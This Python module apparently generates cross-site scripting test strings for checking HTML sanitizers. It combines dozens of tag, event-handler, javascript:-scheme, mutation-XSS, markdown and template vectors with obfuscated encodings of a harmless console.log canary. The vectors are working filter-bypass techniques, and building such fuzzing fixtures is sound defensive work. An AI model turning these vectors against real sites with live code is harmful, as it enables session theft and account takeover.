"""Texts that run a script where they are taken for HTML: vectors × prefixes × separators × spellings of the code."""

from __future__ import annotations

import base64
import random
from collections.abc import Iterator, Sequence
from itertools import product
from typing import Final

CANARY: Final = "canary"
_PLAIN: Final = "console.log(/canary/)"
_ENCODED: Final = base64.b64encode(_PLAIN.encode()).decode()


def _entities(text: str, form: str) -> str:
    return "".join(form.format(ord(letter)) for letter in text)


_CODES: Final = (
    _PLAIN,
    "c\\u006fnsole.log(/canary/)",
    "self[`con`+`sole`].log(/canary/)",
    f"eval(atob(`{_ENCODED}`))",
    "setTimeout`console.log\\x28/canary/\\x29`",
    _entities(_PLAIN, "&#{};"),
    _entities(_PLAIN, "&#x{:x};"),
    _entities(_PLAIN, "&#{:07d}"),
)
_PREFIXES: Final = (
    "", '">', "'>", "</title>", "</textarea>", "-->", "</script>", "</style>", "</iframe>", "<!--><!-->", "<p>", "`",
    "]]>", "&quot;&gt;", '" ', "</a>", "<b>",
)  # fmt: skip
_SPACES: Final = (" ", "/", "\t", "\n", "\x0c", " / ", "\r\n", "/x=y/")
_SCHEMES: Final = (
    "javascript:", "JaVaScRiPt:", "java\tscript:", "java\nscript:", " javascript:", "\x01javascript:",
    "&#106;avascript:", "&#x6a;avascript:", "javascript&colon;", "java&Tab;script:", "javascript://%0a",
    "data:text/html,<script>", "vbscript:", "view-source:javascript:", "feed:javascript:", "blob:javascript:",
)  # fmt: skip

# `{c}` is the code, `{s}` a separator.
_TAGS: Final = (
    "<script>{c}</script>",
    "<ScRiPt{s}x>{c}</sCrIpT>",
    "<script{s}src=data:text/javascript,{c}></script>",
    "<svg><script>{c}</script></svg>",
    "<svg><script{s}href=data:text/javascript,{c} /></svg>",
    "<img{s}src=x{s}onerror={c}>",
    '<img{s}src=x{s}onerror="{c}">',
    "<IMG{s}SRC=x{s}OnErRoR={c}>",
    "<image{s}src=x{s}onerror={c}>",
    "<img{s}srcset=x{s}onerror={c}>",
    "<svg{s}onload={c}>",
    "<svg><animate{s}onbegin={c}{s}attributeName=x{s}dur=1s>",
    "<svg><set{s}onbegin={c}{s}attributeName=x{s}dur=1s>",
    "<svg><image{s}href=x{s}onerror={c}>",
    "<svg><foreignObject><img{s}src=x{s}onerror={c}>",
    "<body{s}onload={c}>",
    "<body{s}onpageshow={c}>",
    "<video><source{s}onerror={c}>",
    "<video{s}src=x{s}onerror={c}>",
    "<audio{s}src=x{s}onerror={c}>",
    "<details{s}open{s}ontoggle={c}>",
    "<input{s}autofocus{s}onfocus={c}>",
    "<select{s}autofocus{s}onfocus={c}>",
    "<textarea{s}autofocus{s}onfocus={c}>",
    "<button{s}autofocus{s}onfocus={c}>b",
    "<a{s}href=#x{s}autofocus{s}tabindex=1{s}onfocus={c}>a",
    "<div{s}contenteditable{s}autofocus{s}onfocus={c}>d",
    "<marquee{s}onstart={c}>m",
    "<style>@keyframes{s}k{{}}</style><p{s}style=animation-name:k;animation-duration:1s{s}onanimationstart={c}>p",
    "<iframe{s}srcdoc='<script>{c}</script>'>",
    "<iframe{s}src=javascript:{c}>",
    "<iframe{s}onload={c}>",
    "<object{s}data=javascript:{c}>",
    "<object{s}data=x{s}onerror={c}>",
    "<embed{s}src=javascript:{c}>",
    "<form><button{s}formaction=javascript:{c}>b",
    "<form{s}action=javascript:{c}><input{s}type=submit>",
    "<a{s}href=javascript:{c}>a</a>",
    "<svg><a{s}xlink:href=javascript:{c}><text>t",
    "<math><mi{s}xlink:href=javascript:{c}>m",
    "<area{s}href=javascript:{c}>",
    "<base{s}href=javascript:{c}//><a{s}href=x>a",
    "<meta{s}http-equiv=refresh{s}content='0;url=javascript:{c}'>",
    "<link{s}rel=stylesheet{s}href=x{s}onerror={c}>",
    "<link{s}rel=preload{s}as=script{s}href=javascript:{c}>",
    "<template{s}shadowrootmode=open><img{s}src=x{s}onerror={c}></template>",
    "<p{s}onmouseover={c}>p",
    "<p{s}onclick={c}>p",
    "<b{s}onpointerenter={c}>b",
    "<copy{s}data-clipboard-text=x{s}onclick={c}>c</copy>",
    '<copy{s}data-clipboard-text="><img{s}src=x{s}onerror={c}>">c</copy>',
    "<dialog{s}open{s}onclose={c}>d",
    # Trees that change when they are written and read again
    '<math><mtext><table><mglyph><style><!--</style><img{s}title="--&gt;&lt;img{s}src=x{s}onerror={c}&gt;">',
    "<form><math><mtext></form><form><mglyph><style></math><img{s}src=x{s}onerror={c}>",
    '<svg></p><style><a{s}id="</style><img{s}src=x{s}onerror={c}>">',
    '<noscript><p{s}title="</noscript><img{s}src=x{s}onerror={c}>">',
    '<noembed><p{s}title="</noembed><img{s}src=x{s}onerror={c}>">',
    '<xmp><p{s}title="</xmp><img{s}src=x{s}onerror={c}>">',
    '<iframe><p{s}title="</iframe><img{s}src=x{s}onerror={c}>">',
    "<select><template><style><!--</style><img{s}src=x{s}onerror={c}>--></select>",
    '<math><annotation-xml{s}encoding="text/html"><style><img{s}src=x{s}onerror={c}></style>',
    "<svg><title><style><img{s}src=x{s}onerror={c}></style></title></svg>",
    '<svg><desc><table><style><!--</style><img{s}title="--&gt;&lt;/desc&gt;&lt;img{s}src=x{s}onerror={c}&gt;">',
    "<table><td><svg><desc><td></desc></svg><style><p></style><img{s}src=x{s}onerror={c}>",
    "<plaintext><img{s}src=x{s}onerror={c}>",
    "<listing>&lt;img{s}src=x{s}onerror={c}&gt;</listing>",
    "<img{s}alt='`><img{s}src=x{s}onerror={c}>'>",
    "<a{s}title='\"><img{s}src=x{s}onerror={c}>'>a",
    "<font{s}color='\"><img{s}src=x{s}onerror={c}>'>f",
    '<p{s}style="color:red;background:url(javascript:{c})">p',
    "<p{s}style='width:expression({c})'>p",
    "<style>@import'javascript:{c}'</style>",
    "<%00script>{c}</script>",
    "<scr\x00ipt>{c}</script>",
    "<<script>{c}//<</script>",
    "<script{s}~~~>{c}</script{s}~~~>",
    "<x{s}onclick={c}{s}id=x>x",
    "&lt;script&gt;{c}&lt;/script&gt;",
    "\\x3cscript\\x3e{c}\\x3c/script\\x3e",
    # Markdown
    '![a](x"onerror={c})',
    '![a](x{s}"x\\"onerror=\\"{c}")',
    '[a](http://x{s}"\\"><img src=x onerror={c}>")',
    '```"><img{s}src=x{s}onerror={c}>\n```',
    "[<img{s}src=x{s}onerror={c}>](x)",
    '<http://x/"onclick={c}>',
    "|<img{s}src=x{s}onerror={c}>|\n|-|\n|x|",
    "[a]: x '\"><img{s}src=x{s}onerror={c}>'\n[a]",
    # Templates of others
    "{{{{constructor.constructor('{c}')()}}}}",
    "${{{c}}}",
)
_LINKS: Final = ("{scheme}{c}", "[a]({scheme}{c})", "<{scheme}{c}>", "<a href='{scheme}{c}'>a</a>", "![a]({scheme}{c})")


def payloads(number: int) -> Sequence[str]:
    """Return so many different ones; always the same, and of every vector as many as of any other."""
    found = list(dict.fromkeys(_all()))
    # A fixed seed: what fails must fail again.
    return random.Random(1).sample(found, number)


def url_payloads() -> Sequence[str]:
    """Return what is put where an address belongs."""
    return [f"{scheme}{code}" for scheme, code in product(_SCHEMES, _CODES)]


def _all() -> Iterator[str]:
    for tag, prefix, space, code in product(_TAGS, _PREFIXES, _SPACES, _CODES):
        yield prefix + tag.format(c=code, s=space)
    for link, scheme, code in product(_LINKS, _SCHEMES, _CODES):
        yield link.format(scheme=scheme, c=code)
